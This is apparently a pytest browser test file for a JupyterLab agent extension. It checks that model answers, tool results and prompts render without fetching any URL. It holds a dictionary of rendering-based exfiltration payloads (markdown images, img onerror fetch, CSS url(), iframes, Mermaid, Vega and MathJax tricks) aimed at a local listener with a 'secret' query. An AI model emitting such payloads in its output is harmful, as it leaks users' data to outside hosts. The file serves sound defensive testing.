"""What an answer, a tool's result or a prompt says is read in a real JupyterLab, and nothing of it calls anywhere."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.browser.lab import Notebook, Opener

pytestmark = pytest.mark.timeout(240)

PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)


@dataclass
class Listener:
    """Counts what is fetched from it, by the name of the attack that stands in the path."""

    port: int
    hits: list[str] = field(default_factory=list)

    def at(self, name: str) -> str:
        return f"http://127.0.0.1:{self.port}/{name}?q=secret"

    def wait_for(self, notebook: Notebook, wanted: set[str], *, seconds: float = 60) -> None:
        until = time.monotonic() + seconds
        while not wanted <= set(self.hits):
            assert time.monotonic() < until, f"not fetched: {wanted - set(self.hits)}"
            notebook.page.wait_for_timeout(50)


@pytest.fixture
def listener() -> Iterator[Listener]:
    class Count(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            counted.hits.append(self.path.partition("?")[0].strip("/"))
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            """Count quietly."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Count)
    counted = Listener(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield counted
    server.shutdown()
    thread.join()
    server.server_close()


ATTACKS = {
    "picture": "![x](URL)",
    "reference-picture": "![x][r1]\n\n[r1]:\n  URL",
    "reference-label": "![x][r\n2]\n\n[r\n2]: URL",
    "raw": "a <img src='URL'> b",
    "raw-block": "<div>\n<img src='URL'>\n</div>",
    "svg": '<svg><image href="URL" width="9" height="9"/></svg>',
    "style": "<style>.jp-Cell { background: url(URL) }</style>",
    "style-attribute": '<p style="background:url(URL)">x</p>',
    "prefetch": '<link rel="prefetch" href="URL"><link rel="stylesheet" href="URL">',
    "frame": '<iframe src="URL"></iframe>',
    "script": "<img src=x onerror=\"fetch('URL')\">",
    "mermaid": "```mermaid\nflowchart LR\n  a[\"<img src='URL' />\"] --> b\n```",
    "mermaid-shape": '```mermaid\nflowchart TD\n  A@{ img: "URL", label: "x", w: 60, h: 60 }\n```',
    "mermaid-style": "```mermaid\nflowchart LR\n  a --> b\n  style a fill:url(URL)\n```",
    "mermaid-in-a-list": '- one\n\n  ```mermaid\n  flowchart TD\n    A@{ img: "URL", label: "x", w: 60, h: 60 }\n  ```',
    "mermaid-in-a-quote": '> ~~~ mermaid x\n> flowchart TD\n>   A@{ img: "URL", label: "x", w: 60, h: 60 }\n> ~~~',
    "mermaid-unclosed": '```mermaid\nflowchart TD\n  A@{ img: "URL", label: "x", w: 60, h: 60 }\n',
    "mermaid-in-code": '````\n```mermaid\nflowchart TD\n  A@{ img: "URL", label: "x", w: 60, h: 60 }\n```\n````',
    "vega": '```vega-lite\n{"data": {"url": "URL"}, "mark": "bar"}\n```',
    "math-style": r"$\style{background-image:url(URL)}{x}$",
    "math-display": "$$\n" r"\style{background:url(URL)}{\text{wide}}" "\n$$",
    "math-bbox": r"$\bbox[background:url(URL), 9px]{x}$",
    "math-mml": r'$\mmlToken{mi}[style="background:url(URL)"]{x}$',
    "math-include": r"$\require{html}\style{background:url(URL)}{x}$ $\includegraphics{URL}$",
    "math-over-a-fence": "$ a\n```\n$ <img src='URL'>\n ```\n",
    "math-over-code": "$ `a $ <img src='URL'> `b` $",
}
"""Texts that a front end may make fetch URL, each in its own place there."""

FETCHED = {"picture", "reference-picture", "raw-block", "svg", "style", "frame", "script", "mermaid", "mermaid-shape"}
"""What JupyterLab does fetch when nothing is neutralised, so that this test would see it."""


def attacks(listener: Listener) -> dict[str, str]:
    return {name: text.replace("URL", listener.at(name)) for name, text in ATTACKS.items()}


def show_last(listener: Listener) -> str:
    """A cell whose output fetches in each of these ways and holds a formula: what stands above it was drawn before."""
    texts = [ATTACKS[name].replace("URL", listener.at(f"last-{name}")) for name in sorted(FETCHED)]
    return f"for text in {texts!r} + ['$x^2$']:\n    display(Markdown(text))"


def wait_for_last(notebook: Notebook, listener: Listener) -> None:
    """Until all is drawn, and forget what the last cell fetched."""
    wanted = {f"last-{name}" for name in FETCHED}
    listener.wait_for(notebook, wanted)
    notebook.page.locator(".jp-CodeCell").last.locator("mjx-container").wait_for()
    # Who was asked just before is heard by now.
    notebook.page.wait_for_timeout(500)
    listener.hits[:] = [name for name in listener.hits if name not in wanted]


SETUP = """
%load_ext agentkit
import os
os.environ["AGENTKIT_HOME"] = ".journal-{FOLDER}"
import agentkit
from agentkit.testing import Call, ScriptedModel
from IPython.display import Markdown, display

texts = {TEXTS}

@agentkit.tool(effects="none")
def page(text: str) -> str:
    "Read a page."
    return text
"""
RAW = "for text in texts.values():\n    display(Markdown(text))"
BUILD = "%%agent build reader --model model\nYou read."
TOOLS = "called = ScriptedModel([Call('page', {'text': each}) for each in texts.values()] + ['done'])"
CALLER = "%%agent build caller --model called --tools page\nYou read."
ASK = "answer = await reader.ask('one more'); answer"


def opened_with(opened: Opener, name: str, texts: dict[str, str], *cells: str) -> Notebook:
    setup = SETUP.replace("{FOLDER}", name).replace("{TEXTS}", json.dumps(texts))
    notebook = opened([setup.strip(), *cells])
    for number in range(1 + len(cells)):
        notebook.do(number)
    return notebook


def test_what_is_not_neutralised_is_fetched_and_counted(opened: Opener, listener: Listener) -> None:
    notebook = opened_with(opened, "raw", attacks(listener), RAW)
    listener.wait_for(notebook, FETCHED)


def test_no_answer_fetches_anything(opened: Opener, listener: Listener) -> None:
    texts = attacks(listener)
    runs = [f"%%agent run reader\n{name}" for name in texts]
    model = "model = ScriptedModel([*texts.values(), '\\n\\n'.join(texts.values())])"
    notebook = opened_with(opened, "answers", texts, model, BUILD, *runs, ASK, show_last(listener))
    wait_for_last(notebook, listener)
    assert listener.hits == []
    assert "flowchart LR" in notebook.output(3 + list(texts).index("mermaid")).inner_text()
    notebook.reopen()
    wait_for_last(notebook, listener)
    assert listener.hits == []


def test_no_panel_fetches_what_a_tool_or_a_prompt_says(opened: Opener, listener: Listener) -> None:
    texts = attacks(listener)
    prompt = "%%agent run caller\n" + "\n\n".join(texts.values())
    shows = ["%agent trace", "%agent why", "%agent runs", "%agent", show_last(listener)]
    wait_for_last(opened_with(opened, "tools", texts, TOOLS, CALLER, prompt, *shows), listener)
    assert listener.hits == []


def test_code_and_pictures_of_an_answer_are_drawn(opened: Opener, listener: Listener) -> None:
    texts = {"code": f"costs $5\n```html\n<b>$6</b>\n```\n\n```python\nx[0](y)\n```\n\n![dot]({PIXEL})"}
    notebook = opened_with(
        opened, "code", texts, "model = ScriptedModel([*texts.values()])", BUILD, "%%agent run reader\ngo"
    )
    shown = notebook.output(3)
    assert "<b>$6</b>" in shown.locator("pre").first.inner_text()
    shown.locator("img[src^='data:image/png']").wait_for(state="attached")
    assert shown.locator("img[src^='data:image/png']").count() == 1
